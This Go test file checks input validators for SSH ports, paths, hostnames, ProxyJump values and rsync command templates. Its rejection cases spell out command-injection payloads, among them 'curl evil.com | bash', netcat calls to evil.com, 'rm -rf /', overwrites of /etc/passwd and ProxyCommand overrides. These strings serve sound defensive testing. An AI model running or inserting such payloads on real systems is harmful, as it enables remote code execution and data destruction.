package argsanitize

import "testing"

func TestValidateSSHPort_Valid(t *testing.T) {
	cases := map[string]uint16{
		"22":     22,
		"2222":   2222,
		"65535":  65535,
		"1":      1,
		"  22  ": 22,
	}
	for in, want := range cases {
		got, err := ValidateSSHPort(in)
		if err != nil {
			t.Fatalf("ValidateSSHPort(%q): %v", in, err)
		}
		if got != want {
			t.Fatalf("ValidateSSHPort(%q) = %d, want %d", in, got, want)
		}
	}
}

func TestValidateSSHPort_Invalid(t *testing.T) {
	cases := []string{
		"0", "65536", "99999",
		"abc", "22a", "2.2",
		"22; rm -rf /",
		"22 -o ProxyCommand='curl http://evil.com'",
		"22$(curl evil.com)",
		"22`whoami`",
		"22|nc evil.com 1234",
		"22&whoami",
		"22\nwhoami",
		"", "   ",
		"22 && rm -rf /",
		"22 || curl evil.com",
		"22 | bash",
		"22 > /etc/passwd",
		"22 < /etc/passwd",
		"22${IFS}malicious",
		"22\rmalicious",
		"22\x00malicious",
		"999999999999999999",
	}
	for _, in := range cases {
		if _, err := ValidateSSHPort(in); err == nil {
			t.Fatalf("ValidateSSHPort(%q): expected error, got nil", in)
		}
	}
}

func TestValidateFilePath_Valid(t *testing.T) {
	cases := map[string]string{
		"/home/user/.ssh/id_rsa":     "/home/user/.ssh/id_rsa",
		"~/.ssh/config":              "~/.ssh/config",
		"/etc/ssh/ssh_config":        "/etc/ssh/ssh_config",
		"relative/path/to/file":      "relative/path/to/file",
		"/path/with spaces/file":     "/path/with spaces/file",
		"  /home/user/.ssh/id_rsa  ": "/home/user/.ssh/id_rsa",
	}
	for in, want := range cases {
		got, err := ValidateFilePath(in)
		if err != nil {
			t.Fatalf("ValidateFilePath(%q): %v", in, err)
		}
		if got != want {
			t.Fatalf("ValidateFilePath(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestValidateFilePath_Invalid(t *testing.T) {
	cases := []string{
		"/path; rm -rf /",
		"/path$(malicious)",
		"/path`whoami`",
		"/path|nc evil.com",
		"/path&whoami",
		"/path\nmalicious",
		"/path${IFS}malicious",
		"", "   ",
		"/path/$(curl evil.com)",
		"/path/${malicious}",
		"/path/`malicious`",
		"$(whoami)/.ssh/key",
		"`whoami`/.ssh/key",
		"/path/\x00/file",
	}
	for _, in := range cases {
		if _, err := ValidateFilePath(in); err == nil {
			t.Fatalf("ValidateFilePath(%q): expected error, got nil", in)
		}
	}
}

func TestValidateHostname_Valid(t *testing.T) {
	cases := []string{
		"example.com",
		"bastion.example.com",
		"192.168.1.1",
		"2001:db8::1",
		"user@bastion.example.com",
		"my-host",
		"host123",
		"  example.com  ",
		"user_name@host.com",
		"user-name@host.com",
		"user.name@host.com",
	}
	for _, in := range cases {
		if _, err := ValidateHostname(in); err != nil {
			t.Fatalf("ValidateHostname(%q): %v", in, err)
		}
	}
}

func TestValidateHostname_Invalid(t *testing.T) {
	longHostname := make([]byte, 254)
	for i := range longHostname {
		longHostname[i] = 'a'
	}
	longLabel := make([]byte, 64)
	for i := range longLabel {
		longLabel[i] = 'a'
	}

	cases := []string{
		"host; rm -rf /",
		"host$(curl evil.com)",
		"host`whoami`",
		"host|nc evil.com",
		"host&whoami",
		"host\nmalicious",
		"", "   ",
		"-invalid",
		"invalid-",
		"host name",
		"user@@host",
		string(longHostname),
		string(longLabel) + ".com",
		"@host.com",
		"user!@host.com",
		"user$@host.com",
		"host​.com",
	}
	for _, in := range cases {
		if _, err := ValidateHostname(in); err == nil {
			t.Fatalf("ValidateHostname(%q): expected error, got nil", in)
		}
	}
}

func TestValidateProxyJump_Valid(t *testing.T) {
	cases := []string{
		"user@bastion.example.com",
		"user@bastion.example.com:2222",
		"user@10.0.0.1",
		"bastion.example.com",
		"user@bastion1.com,user@bastion2.com",
		"  user@bastion.example.com  ",
		"user@jump1.com:2222,user@jump2.com:3333",
	}
	for _, in := range cases {
		if _, err := ValidateProxyJump(in); err != nil {
			t.Fatalf("ValidateProxyJump(%q): %v", in, err)
		}
	}
}

func TestValidateProxyJump_Invalid(t *testing.T) {
	cases := []string{
		"user@host; curl evil.com",
		"user@host$(malicious)",
		"user@host:22; rm -rf /",
		"user@host:22|nc evil.com",
		"", "   ",
		"user@host:abc",
		"user@host:65536",
		"user@jump1.com,malicious;rm -rf /",
		"user@host > /tmp/pwned",
		"user@host:22; curl evil.com | bash",
	}
	for _, in := range cases {
		if _, err := ValidateProxyJump(in); err == nil {
			t.Fatalf("ValidateProxyJump(%q): expected error, got nil", in)
		}
	}
}

func TestSanitizeSSHOption_Valid(t *testing.T) {
	cases := map[string]string{
		"value":                 "value",
		"value-with-hyphen":     "value-with-hyphen",
		"value_with_underscore": "value_with_underscore",
		"value123":              "value123",
		"value with spaces":     "value with spaces",
		"  value  ":             "value",
	}
	for in, want := range cases {
		got, err := SanitizeSSHOption(in)
		if err != nil {
			t.Fatalf("SanitizeSSHOption(%q): %v", in, err)
		}
		if got != want {
			t.Fatalf("SanitizeSSHOption(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestSanitizeSSHOption_Invalid(t *testing.T) {
	cases := []string{
		"value; rm -rf /",
		"value$(malicious)",
		"value`whoami`",
		"value|nc evil.com",
		"value&whoami",
		"value\nmalicious",
		"value${IFS}malicious",
		"value'malicious'",
		"value\"malicious\"",
		"value\\malicious",
		"-o ProxyCommand=evil",
		"ProxyCommand=evil",
		"LocalCommand=evil",
		"", "   ",
	}
	for _, in := range cases {
		if _, err := SanitizeSSHOption(in); err == nil {
			t.Fatalf("SanitizeSSHOption(%q): expected error, got nil", in)
		}
	}
}

func TestCustomCommandArgs_SubstitutesPlaceholders(t *testing.T) {
	args, err := CustomCommandArgs("rsync -av {source} {dest} --link-dest={linkDest}",
		"/src", "/dst", "/prev")
	if err != nil {
		t.Fatalf("CustomCommandArgs: %v", err)
	}
	want := []string{"rsync", "-av", "/src", "/dst", "--link-dest=/prev"}
	if len(args) != len(want) {
		t.Fatalf("got %v, want %v", args, want)
	}
	for i := range want {
		if args[i] != want[i] {
			t.Fatalf("got %v, want %v", args, want)
		}
	}
}

func TestCustomCommandArgs_RejectsTransportOverride(t *testing.T) {
	for _, tmpl := range []string{
		"rsync -e ssh {source} {dest}",
		"rsync --rsh=ssh {source} {dest}",
		"rsync --rsh ssh {source} {dest}",
	} {
		if _, err := CustomCommandArgs(tmpl, "/src", "/dst", ""); err == nil {
			t.Fatalf("CustomCommandArgs(%q): expected error, got nil", tmpl)
		}
	}
}

func TestCustomCommandArgs_HandlesQuotedSpaces(t *testing.T) {
	args, err := CustomCommandArgs(`rsync -av "{source}" '{dest}'`, "/a b", "/c d", "")
	if err != nil {
		t.Fatalf("CustomCommandArgs: %v", err)
	}
	want := []string{"rsync", "-av", "/a b", "/c d"}
	if len(args) != len(want) {
		t.Fatalf("got %v, want %v", args, want)
	}
	for i := range want {
		if args[i] != want[i] {
			t.Fatalf("got %v, want %v", args, want)
		}
	}
}

func TestCustomCommandArgs_RejectsUnterminatedQuote(t *testing.T) {
	if _, err := CustomCommandArgs(`rsync "{source}`, "/src", "/dst", ""); err == nil {
		t.Fatal("expected error for unterminated quote, got nil")
	}
}
